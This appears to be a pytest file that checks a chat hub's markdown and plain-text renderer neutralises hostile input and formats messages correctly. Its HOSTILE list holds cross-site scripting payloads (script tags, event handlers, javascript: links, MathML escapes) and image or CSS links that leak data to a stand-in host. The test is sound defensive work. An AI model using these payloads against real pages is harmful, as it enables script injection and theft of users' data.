"""What a message may become in the page, and what it must never become."""

from __future__ import annotations

import re

import pytest

from hub.render import blocks, markdown, plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x](/api/files/a"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[r]",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$",
    "$\\style{color:red;background:url(//evil.example)}{x}$",
    "<style>*{display:none}</style>",
    "<a href='https://x.example' style='position:fixed;inset:0'>all</a>",
    "<form action=/logout><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<b onmouseover=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    'https://x.example/"onmouseover="alert(1)',
    "\x00<script\x00>alert(1)</script>",
]


def _tags(html: str) -> list[str]:
    return re.findall(r"<[a-zA-Z/][^>]*>", html)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("draw", [markdown, plain])
def test_hostile_text_is_inert(draw, text):
    for tag in _tags(draw(text)):
        assert not re.match(
            r"</?(script|style|iframe|svg|form|object|embed|link|meta|base)\b",
            tag,
            re.IGNORECASE,
        ), tag
        assert not re.search(r"\son\w+\s*=", tag, re.IGNORECASE), tag
        assert not re.search(r"(javascript|vbscript|data):", tag, re.IGNORECASE), tag
        assert " style=" not in tag
        assert not tag.startswith("<img") or 'src="/api/files/' in tag


def test_raw_html_is_shown_as_text():
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown("<b>bold</b>")


def test_remote_images_become_links_and_own_files_are_shown():
    assert "<img" not in markdown("![chart](https://example.org/c.png)")
    assert 'class="remote-image"' in markdown("![chart](https://example.org/c.png)")
    assert '<img src="/api/files/65f0" alt="chart" loading="lazy">' in markdown("![chart](/api/files/65f0)")


def test_links_open_elsewhere_and_tell_nothing():
    html = markdown("[site](https://example.org) and https://example.org/a_b.")
    assert html.count('rel="noopener noreferrer"') == 2
    assert html.count('target="_blank"') == 2
    assert 'href="https://example.org/a_b"' in html
    assert "href" not in markdown("[out](/logout)")


def test_code_has_a_header_and_colours():
    html = markdown("```python\ndef f(): pass\n```")
    assert '<span class="lang">python</span>' in html
    assert 'data-act="copy-code"' in html
    assert '<span class="k">def</span>' in html


def test_unknown_languages_and_no_language_stay_plain():
    assert "<code>a &lt; b\n</code>" in markdown("```nosuchlanguage\na < b\n```")
    assert "<code>a\n</code>" in markdown("```\na\n```")


def test_mermaid_keeps_its_source():
    assert '<pre class="mermaid">graph TD; A--&gt;B\n</pre>' in markdown("```mermaid\ngraph TD; A-->B\n```")


def test_tables_tasks_and_strikethrough():
    assert '<th class="right">n</th>' in markdown("| a | n |\n|---|--:|\n| x | 1 |")
    assert "<s>gone</s>" in markdown("~~gone~~")
    assert 'type="checkbox"' in markdown("- [x] done")


@pytest.mark.parametrize("text", ["$x^2$", "\\(x^2\\)", "so $x^2$.", "($x^2$)"])
def test_inline_formulas(text):
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "$$x^2$$",
        "$$\nx^2\n$$",
        "\\[x^2\\]",
        "\\[\nx^2\n\\]",
        "- a\n\n  $$\n  x^2\n  $$",
    ],
)
def test_display_formulas(text):
    assert 'display="block"' in markdown(text)


@pytest.mark.parametrize(
    "text",
    ["$5 and $6", "$5/$6", "US$5 or A$6", "echo $HOME and $PATH", "`$x$`", "\\$x$"],
)
def test_money_and_variables_are_not_formulas(text):
    assert "<math" not in markdown(text)


def test_a_formula_that_cannot_be_read_shows_its_source():
    html = markdown("$$\n\\begin{nonsense} x \\frac\n$$")
    assert "math source" in html
    assert "\\frac" in html


def test_formula_text_keeps_signs_and_lines_that_look_like_lists():
    assert "a&lt;b" in markdown("$\\text{a<b}$")
    assert "<ul" not in markdown("$$\na\n- b\n$$")


def test_null_bytes_and_right_to_left():
    assert "\x00" not in markdown("a\x00b")
    assert '<p dir="auto">' in markdown("\u05e9\u05dc\u05d5\u05dd")


def test_a_huge_answer_is_shown_plainly():
    made = blocks("# x\n" * 100_000)
    assert len(made) == 1
    assert "typed" in made[0].html


def test_typed_text_keeps_its_shape():
    assert "  indented\n\n\nfar" in plain("  indented\n\n\nfar")
    assert "# no heading" in plain("# no heading")
    assert "<figure" in plain("look:\n```python\nx = 1\n```\nthanks")
